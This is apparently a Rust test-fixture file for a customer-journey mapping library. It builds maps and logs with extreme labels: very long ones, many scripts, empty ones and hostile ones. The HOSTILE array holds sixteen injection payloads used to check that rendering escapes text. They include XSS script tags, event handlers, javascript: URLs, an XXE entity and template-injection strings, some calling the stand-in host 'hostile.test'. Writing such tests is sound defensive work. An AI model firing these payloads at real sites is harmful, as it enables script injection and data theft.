//! Maps and logs that are hard to draw: labels that attack, labels without end, in all scripts, far too many, and none at all.
#![expect(clippy::indexing_slicing, reason = "a test may panic")]

use journey_core::{
    Channel, ChannelKind, Event, EventLog, Evidence, EvidenceKind, JourneyMap, Opportunity, PainPoint, PainSeverity,
    Persona, Result, Stage, Timestamp, Touchpoint,
};

use super::{Questions, Reports};

/// Labels that would do something if they were more than text. Where one succeeds, `window.hurt` is set or an address asked for.
pub const HOSTILE: [&str; 16] = [
    "<script>window.hurt=1;fetch('http://hostile.test/1')</script>",
    "\"><img src=http://hostile.test/2 onerror=\"window.hurt=2\">",
    "' onload='window.hurt=3' onfocus='window.hurt=3' onmouseover='window.hurt=3",
    "</svg></title></style></desc><script>window.hurt=4</script>",
    "</textarea></template><iframe srcdoc=\"<script>parent.hurt=5</script>\"></iframe>",
    "]]><!--<script>window.hurt=6</script>--><![CDATA[<script>window.hurt=6</script>]]>",
    "javascript:window.hurt=7",
    "<a href=\"javascript:window.hurt=8\" xlink:href='javascript:window.hurt=8'>click</a>",
    "<style>@import 'http://hostile.test/9';*{background:url(http://hostile.test/9)}</style>",
    "&lt;script&gt;window.hurt=10&lt;/script&gt;&#60;b&#62;&amp;amp;&nbsp;&bogus;",
    "<?xml-stylesheet href='http://hostile.test/11'?><!DOCTYPE a [<!ENTITY b SYSTEM 'http://hostile.test/11'>]>&b;",
    "\u{0}nothing\u{1}\u{1b}[31mred\u{7f}\u{9b}\t\r\n\u{b}\u{fffe}\u{ffff}end",
    "\u{202e}gpj.evil\u{202c}\u{2067}more \u{2069}\u{2069}\u{200f}out",
    "{{constructor.constructor('window.hurt=14')()}} ${window.hurt=14} <%= 14 %>",
    "</foreignObject><use href='http://hostile.test/15#a'/><animate attributeName=href values='javascript:window.hurt=15'/>",
    "url(http://hostile.test/16);} * {background: expression(window.hurt=16)} \\3c script\\3e",
];

/// A map and a log whose every name attacks; the last name is also very long.
///
/// # Errors
/// If a name is refused.
pub fn hostile() -> Result<(Reports, Vec<String>)> {
    let mut labels: Vec<String> = HOSTILE.iter().map(|label| (*label).to_owned()).collect();
    labels.push(format!("<b onclick=\"window.hurt=17\">{}</b>", "very long & <i>more</i> ".repeat(200)));
    let steps: Vec<&str> = labels.iter().take(3).map(String::as_str).collect();
    let asked = Questions { steps: &steps, attribute: HOSTILE[0], values: [HOSTILE[1], HOSTILE[3]] };
    let map = map_of(&labels, 3)?;
    let reports = Reports::new(map, &log_of(&labels, &asked, 60)?, None, &asked)?;
    Ok((reports, labels))
}

/// Labels of 300 characters in all sorts of scripts.
fn ugly_labels(many: usize) -> Vec<String> {
    let texts = [
        "a label that goes on and on without ever coming to an end ",
        "x",
        "W",
        "支付订单页面，顾客在这里完成付款，然后等待确认。",
        "الدفع الآن وإتمام عملية الشراء عبر الموقع ",
        "תשלום מאובטח ",
        "👩‍👩‍👧‍👦🛒💳✈️🇮🇹",
        "Zahlungsverkehrsdienstleistungsvertrag",
        "снова и снова оплата ",
        "a_very.long:name/of_an_event_",
    ];
    (1..=many)
        .zip(texts.iter().cycle())
        .map(|(number, text)| {
            let label = format!("{number} {text}");
            label.chars().chain(text.chars().cycle()).take(300).collect()
        })
        .collect()
}

/// 60 touchpoints in one stage, no scores, every label 300 characters long.
///
/// # Errors
/// If a name is refused.
pub fn ugly() -> Result<Reports> {
    let labels = ugly_labels(60);
    let steps: Vec<&str> = labels.iter().take(6).map(String::as_str).collect();
    let asked = Questions { steps: &steps, attribute: "group", values: [&labels[3], &labels[4]] };
    let log = log_of(&labels, &asked, 400)?;
    let mut reports = Reports::new(map_of(&labels, 1)?, &log, None, &asked)?;
    reports.on_the_map = journey_core::MapReports::default();
    Ok(reports)
}

/// The same in 12 stages, with scores and everything that reports say.
///
/// # Errors
/// If a name is refused.
pub fn crowded() -> Result<Reports> {
    let labels = ugly_labels(60);
    let steps: Vec<&str> = labels.iter().take(6).map(String::as_str).collect();
    let asked = Questions { steps: &steps, attribute: "group", values: [&labels[0], &labels[5]] };
    Reports::new(map_of(&labels, 12)?, &log_of(&labels, &asked, 400)?, None, &asked)
}

/// A log without events and a map without touchpoints.
///
/// # Errors
/// Never, unless questions refuse such a log.
pub fn empty() -> Result<Reports> {
    let log = EventLog::builder().attribute("group").build()?;
    let asked = Questions { steps: &["a", "b"], attribute: "group", values: ["x", "y"] };
    Reports::new(JourneyMap::builder("Empty").build()?, &log, None, &asked)
}

/// Pictures of a log of so many touchpoints and, but for chance, so many variants, and the log.
///
/// # Errors
/// If a name is refused.
pub fn crowd(touchpoints: u64, variants: u64) -> Result<(Reports, EventLog)> {
    let mut random = Random(touchpoints);
    let names: Vec<String> = (0..touchpoints).map(|number| format!("touchpoint_{number}")).collect();
    let mut log = EventLog::builder().attribute("group");
    for number in 0..variants {
        let id = format!("journey_{number}");
        let group = ["x", "y"][usize::from(number % 2 == 0)];
        let mut seconds = 0;
        // Every touchpoint is visited, those of low numbers more often, as real touchpoints are not alike.
        let mut place = number % touchpoints;
        for _ in 0..3 + random.below(8) {
            seconds += 1 + random.below(100_000);
            let name = names.get(usize::try_from(place).unwrap_or_default()).map_or("", String::as_str);
            log = log.event_with(Event::new(&id, name, at(seconds)?), [Some(group)]);
            place = random.below(touchpoints).min(random.below(touchpoints));
        }
    }
    let map = names.iter().fold(JourneyMap::builder("Crowd").stage(Stage::new("all", "All")), |map, name| {
        map.touchpoint(Touchpoint { expected_score: Some(0.5), ..Touchpoint::new(name, name, "all") })
    });
    let steps: Vec<&str> = names.iter().take(4).map(String::as_str).collect();
    let log = log.build()?;
    let asked = Questions { steps: &steps, attribute: "group", values: ["x", "y"] };
    Ok((Reports::new(map.build()?, &log, None, &asked)?, log))
}

/// A map with a touchpoint for each label, which fills every lane.
fn map_of(labels: &[String], stages: usize) -> Result<JourneyMap> {
    let text = |place: usize| labels.get(place % labels.len()).cloned().unwrap_or_default();
    let scored = stages > 1;
    let kinds = [EvidenceKind::Analytics, EvidenceKind::FocusGroup, EvidenceKind::Assumption];
    let mut map = JourneyMap::builder(text(0)).description(text(1)).version(text(2)).persona(Persona {
        id: text(3),
        name: text(4),
        ..Default::default()
    });
    for (number, kind) in [ChannelKind::Online, ChannelKind::Offline].into_iter().enumerate() {
        map = map.channel(Channel { id: number.to_string(), name: text(number), kind });
    }
    for number in 0..stages {
        map = map.stage(Stage {
            goal: Some(text(number + 1)),
            expectations: vec![text(number + 2), text(number + 3)],
            ..Stage::new(text(number), text(number))
        });
    }
    for (place, label) in labels.iter().enumerate() {
        let point = |more| PainPoint {
            text: text(place + more),
            severity: [None, Some(PainSeverity::Critical)][more % 2],
            ..Default::default()
        };
        let step = place * 37 % 9;
        map = map.touchpoint(Touchpoint {
            channel: (place % 3 != 0).then(|| (place % 2).to_string()),
            owner: Some(text(place + 1)),
            action: Some(text(place + 2)),
            thoughts: vec![text(place + 3), text(place + 4)],
            expectations: vec![text(place + 7)],
            pain_points: (0..place % 7).map(point).collect(),
            opportunities: vec![Opportunity { text: text(place + 5), effort: Some(1.5), ..Default::default() }],
            expected_score: (scored && place % 5 != 3)
                .then(|| f64::from(u8::try_from(step).unwrap_or_default()) / 2.0 - 2.0),
            moment_of_truth: place % 4 == 0,
            evidence: vec![Evidence { n: Some(123_456), ..Evidence::new(kinds[place % kinds.len()]) }],
            ..Touchpoint::new(label, label, text(place * stages / labels.len()))
        });
    }
    map.build()
}

/// Journeys over touchpoints with these names: mostly on to the next, sometimes anywhere, with scores and times of all sizes.
fn log_of(labels: &[String], asked: &Questions<'_>, journeys: u64) -> Result<EventLog> {
    let mut random = Random(journeys);
    let mut log = EventLog::builder().attribute(asked.attribute);
    let many = u64::try_from(labels.len()).unwrap_or_default();
    for number in 0..journeys {
        let id = format!("journey {number}");
        let group = asked.values[usize::from(random.below(2) == 0)];
        let mut place = if random.below(3) == 0 { random.below(many) } else { number % many };
        let mut seconds = random.below(86_400);
        for _ in 0..2 + random.below(9) {
            let name = labels.get(usize::try_from(place).unwrap_or_default()).map_or("", String::as_str);
            let score = f64::from(u8::try_from(random.below(5)).unwrap_or_default()) - 2.0;
            let event = Event::new(&id, name, at(seconds)?).with_score(score);
            log = log.event_with(event, [Some(group)]);
            seconds += 1 << random.below(20);
            place = if random.below(4) == 0 { random.below(many) } else { (place + 1) % many };
        }
    }
    log.build()
}

fn at(seconds: u64) -> Result<Timestamp> {
    let micros = i64::try_from(seconds).unwrap_or_default() * 1_000_000 + 1_710_000_000_000_000;
    Timestamp::from_micros(micros)
}

/// Numbers that look like chance and are always the same: the generator of Knuth's MMIX.
struct Random(u64);

impl Random {
    fn below(&mut self, end: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % end
    }
}
